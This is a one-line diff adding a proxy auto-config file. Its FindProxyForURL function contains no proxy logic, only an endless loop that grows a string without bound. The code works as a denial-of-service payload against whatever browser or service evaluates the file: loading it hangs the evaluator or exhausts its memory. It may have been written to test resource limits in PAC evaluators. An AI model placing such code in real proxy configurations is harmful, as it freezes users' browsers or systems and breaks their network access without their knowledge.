@@ -1,0 +1,1 @@
+function FindProxyForURL(u, h) { var s = "x"; for (;;) s +=!-s; }
